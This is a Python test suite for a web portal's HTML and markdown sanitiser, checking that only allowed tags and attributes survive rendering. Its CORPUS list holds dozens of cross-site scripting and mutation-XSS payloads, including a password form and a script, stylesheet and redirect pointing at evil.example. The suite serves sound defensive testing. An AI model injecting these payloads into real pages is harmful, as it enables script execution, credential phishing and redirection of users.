"""Whatever comes in, only known elements with known attributes come out."""

# ruff: noqa: E501 - an attack is written as it was found

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.core.markdown import render_html, render_markdown
from portal.core.sanitise import ATTRIBUTES, MATH_TAGS, TEXT_TAGS, plain_text, sanitise_html

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1) alt='<script>'>",
    '<img alt="a>b<script>alert(1)</script>" src="https://a.example/x.png">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><mi><svg><style><!--</style><img src onerror=alert(1)>--></style></svg></mi></math>",
    "<math href='javascript:alert(1)'>x</math><math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://a.example' target=_blank style='position:fixed' onclick=alert(1) id=top name=cookie>x</a>",
    "<p style='background:url(javascript:alert(1))' class='site-header' id='login'>x</p>",
    "<div class='\"><script>alert(1)</script>'>x</div>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password type=password><button>Sign in</button></form>",
    "<input type=image src=x onerror=alert(1)><input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example'</style>",
    "<video><source onerror=alert(1)></video><details open ontoggle=alert(1)>x</details>",
    "<table background='javascript:alert(1)'><tr><td onmouseover=alert(1)>x",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<<script>alert(1)//<</script>",
    "<p <img src=x onerror=alert(1)>>x",
    "<h1 onclick=alert(1)><h3 id=x>t</h3></h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "$\\text{</math><img src=x onerror=alert(1)>}$",
    "[x](javascript:alert(1)) ![x](https://evil.example/t.png) <javascript:alert(1)>",
    "[x](<data:text/html;base64,PHNjcmlwdD4=> 'onmouseover=alert(1)')",
    '```"onload="alert(1)\nx\n```',
]
HARMLESS = {"disabled", "checked"}


class Oracle(HTMLParser):
    """Collects what is in the document and should not be."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag not in TEXT_TAGS | MATH_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attributes:
            if name not in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set()):
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and urlsplit(value or "").scheme not in {"http", "https", "mailto", ""}:
                self.faults.append(f"<{tag} {name}={value}>")
        if tag == "a" and dict(attributes).get("rel") != "nofollow ugc noopener":
            self.faults.append("<a> that is followed")
        if tag == "input" and dict(attributes).get("type") != "checkbox":
            self.faults.append("<input>")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"<!{decl}>")

    handle_pi = unknown_decl = handle_decl


def faults(markup: str) -> list[str]:
    oracle = Oracle()
    oracle.feed(markup)
    oracle.close()
    return oracle.faults


def test_the_oracle_sees_faults():
    assert faults("<img src=x onerror=alert(1)>") == ["<img>", "<img src>", "<img onerror>"]
    assert faults("<a href='javascript:x' rel='nofollow ugc noopener'>") == ["<a href=javascript:x>"]
    assert faults("<input><!--x--><script>") == ["<input>", "<!--x-->", "<script>"]


@pytest.mark.parametrize("render", [sanitise_html, render_html, render_markdown])
@pytest.mark.parametrize("attack", CORPUS)
def test_only_what_is_allowed_comes_out(render, attack):
    for context in (
        "{}",
        "<p>{}</p>",
        "<table><tr><td>{}",
        "<math><mi>{}</mi></math>",
        "<pre><code>{}",
        "> - {}",
    ):
        markup = render(context.format(attack))
        assert faults(markup) == []
        assert sanitise_html(markup).count("<") <= markup.count(
            "<"
        )  # nothing new appears when it is read again


@given(
    st.lists(
        st.sampled_from([*" <>/\"'=&;!-$\\{}ax", *CORPUS, "<math>", "<mtext>", "<style>", "</p>"]),
        max_size=12,
    )
)
@settings(max_examples=150, deadline=None)
def test_pieces_of_attacks_put_together(pieces):
    for render in (render_html, render_markdown):
        assert faults(render("".join(pieces))) == []


def test_headings_start_below_those_of_the_page():
    markup = sanitise_html("<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h6>e</h6>")

    assert markup == "<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6><h6>e</h6>"


def test_picture_becomes_a_link_that_says_what_it_shows():
    markup = sanitise_html('<img src="https://a.example/p.png" alt="The plot">')

    assert markup == '<a href="https://a.example/p.png" rel="nofollow ugc noopener">The plot</a>'


def test_linked_picture_becomes_the_text_of_its_link():
    markup = sanitise_html(
        '<a href="https://a.example/"><img src="https://b.example/p.png" alt="The plot"></a>'
    )

    assert markup == '<a href="https://a.example/" rel="nofollow ugc noopener">The plot</a>'


@pytest.mark.parametrize("picture", ['<img src="javascript:x" alt="Plot">', '<img alt="Plot">'])
def test_picture_without_an_address_is_its_text(picture):
    assert sanitise_html(picture) == "Plot"


def test_check_boxes_cannot_be_ticked():
    assert "disabled" in sanitise_html('<input type="checkbox" checked>')
    assert sanitise_html('<input type="text"><input>') == ""


def test_formula_cannot_push_things_over_the_page():
    assert "em" not in sanitise_html(
        '<math><mspace width="-40em"></mspace><mspace width="40em"></mspace></math>'
    )
    assert 'width="0.167em"' in sanitise_html('<math><mspace width="0.167em"></mspace></math>')


def test_plain_text_keeps_words_of_neighbouring_blocks_apart():
    assert (
        plain_text("<ul><li>one</li><li>two<br>three</li></ul><h3>four</h3><p>fi<b>ve</b></p>")
        == "one two three four five"
    )


def test_plain_text_is_cut_between_words():
    assert plain_text("<p>one two three</p>", limit=10) == "one two…"
    assert len(plain_text(f"<p>{'x' * 500}</p>", limit=240)) <= 240
